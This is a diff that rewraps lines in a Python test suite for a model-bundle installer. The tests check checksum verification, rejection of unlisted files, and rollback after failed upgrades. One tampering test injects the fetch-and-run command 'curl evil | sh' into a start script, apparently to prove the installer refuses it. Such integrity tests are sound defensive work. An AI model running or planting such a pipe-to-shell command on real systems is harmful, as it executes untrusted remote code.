@@ -53,19 +53,23 @@ def assert_refused(bundle: Path, prefix: Path, match: str, exc=ArtifactError):
 
 
 def test_tampered_file_is_refused(bundle, tmp_path):
-    bad = repack(bundle, tmp_path / "bad.tar.gz",
-                 lambda n, d: d + b"\x00" if n == "tiny/model.onnx" else d)
+    bad = repack(bundle, tmp_path / "bad.tar.gz", lambda n, d: d + b"\x00" if n == "tiny/model.onnx" else d)
     assert_refused(bad, tmp_path / "prefix", r"model\.onnx does not match its SHA256SUMS entry: .*tampered")
 
 
 def test_tampered_start_script_is_refused(bundle, tmp_path):
-    bad = repack(bundle, tmp_path / "bad.tar.gz",
-                 lambda n, d: d.replace(b"set -euo pipefail", b"curl evil | sh") if n == "tiny/start.sh" else d)
+    bad = repack(
+        bundle,
+        tmp_path / "bad.tar.gz",
+        lambda n, d: d.replace(b"set -euo pipefail", b"curl evil | sh") if n == "tiny/start.sh" else d,
+    )
     assert_refused(bad, tmp_path / "prefix", r"start\.sh does not match")
 
 
 def test_unlisted_and_missing_files_are_refused(bundle, tmp_path):
-    extra = repack(bundle, tmp_path / "extra.tar.gz", extra=[member("tiny/lib/edgecnn/sitecustomize.py", data=b"import os")])
+    extra = repack(
+        bundle, tmp_path / "extra.tar.gz", extra=[member("tiny/lib/edgecnn/sitecustomize.py", data=b"import os")]
+    )
     assert_refused(extra, tmp_path / "p1", r"sitecustomize\.py is not in SHA256SUMS")
     missing = repack(bundle, tmp_path / "missing.tar.gz", lambda n, d: None if n == "tiny/labels.txt" else d)
     assert_refused(missing, tmp_path / "p2", r"labels\.txt listed in SHA256SUMS is missing")
@@ -172,7 +176,11 @@ def resigned(src: Path, dst: Path, change) -> Path:
             if m.isfile():
                 files[m.name] = (m.mode, change(m.name, tin.extractfile(m).read()))
     top = next(iter(files)).split("/", 1)[0]
-    sums = {n.split("/", 1)[1]: hashlib.sha256(d).hexdigest() for n, (_, d) in files.items() if not n.endswith("/SHA256SUMS")}
+    sums = {
+        n.split("/", 1)[1]: hashlib.sha256(d).hexdigest()
+        for n, (_, d) in files.items()
+        if not n.endswith("/SHA256SUMS")
+    }
     files[f"{top}/SHA256SUMS"] = (0o644, sha256sums_text(sums).encode())
     with tarfile.open(dst, "w:gz") as tout:
         for name, (mode, data) in files.items():
@@ -208,7 +216,9 @@ def installed(bundle, tmp_path) -> Path:
 def test_failed_prepare_leaves_the_previous_install_exactly(bundle, tmp_path, installed):
     before = snapshot(installed)
     bad = resigned(bundle, tmp_path / "v2.tar.gz", lambda n, d: FAILING_PREPARE if n == "tiny/start.sh" else d)
-    with pytest.raises(ArtifactError, match=r"start\.sh --prepare failed \(exit 1\): no space left.*previous install .* unchanged"):
+    with pytest.raises(
+        ArtifactError, match=r"start\.sh --prepare failed \(exit 1\): no space left.*previous install .* unchanged"
+    ):
         install_bundle(bad, installed.parent)
     assert snapshot(installed) == before
     assert sorted(p.name for p in installed.parent.iterdir()) == ["tiny"], "no staging, .old or .previous left"
@@ -247,11 +257,15 @@ def test_failed_service_step_restores_install_and_unit(bundle, tmp_path, install
     (units / "tiny.service").write_text("[Unit]\nDescription=the previous unit\n")
     log = tmp_path / "systemctl.log"
     fake = tmp_path / "systemctl"
-    fake.write_text(f'#!/bin/sh\necho "$@" >> {log}\n[ "$1" = enable ] && {{ echo "unit is masked" >&2; exit 1; }}\nexit 0\n')
+    fake.write_text(
+        f'#!/bin/sh\necho "$@" >> {log}\n[ "$1" = enable ] && {{ echo "unit is masked" >&2; exit 1; }}\nexit 0\n'
+    )
     fake.chmod(0o755)
     before = snapshot(installed)
     v2 = resigned(bundle, tmp_path / "v2.tar.gz", lambda n, d: d + b"\n" if n == "tiny/README.md" else d)
-    target = ServiceTarget(unit_dir=units, systemctl=(str(fake),), is_root=True, has_systemd=True, user=getpass.getuser())
+    target = ServiceTarget(
+        unit_dir=units, systemctl=(str(fake),), is_root=True, has_systemd=True, user=getpass.getuser()
+    )
     with pytest.raises(UserInputError, match="enable tiny.service` failed: unit is masked.*unchanged"):
         install_bundle(v2, installed.parent, build_engine=False, service=True, service_target=target)
     assert snapshot(installed) == before
@@ -317,11 +331,14 @@ def test_unusable_prefix_is_a_clear_error(bundle, tmp_path, kind):
     assert sorted(p.name for p in tmp_path.iterdir()) == listing
 
 
-@pytest.mark.parametrize("extra", [
-    [member("tiny/labels.txt/x")],  # a file that is also a folder
-    [member("tiny/model.onnx/", tarfile.DIRTYPE)],
-    [member("tiny/lib/edgecnn", data=b"x")],  # a folder the bundle fills, shipped as a file too
-])
+@pytest.mark.parametrize(
+    "extra",
+    [
+        [member("tiny/labels.txt/x")],  # a file that is also a folder
+        [member("tiny/model.onnx/", tarfile.DIRTYPE)],
+        [member("tiny/lib/edgecnn", data=b"x")],  # a folder the bundle fills, shipped as a file too
+    ],
+)
 def test_file_folder_clash_is_refused_before_writing(bundle, tmp_path, extra):
     bad = repack(bundle, tmp_path / "clash.tar.gz", extra=extra)
     prefix = tmp_path / "new" / "prefix"
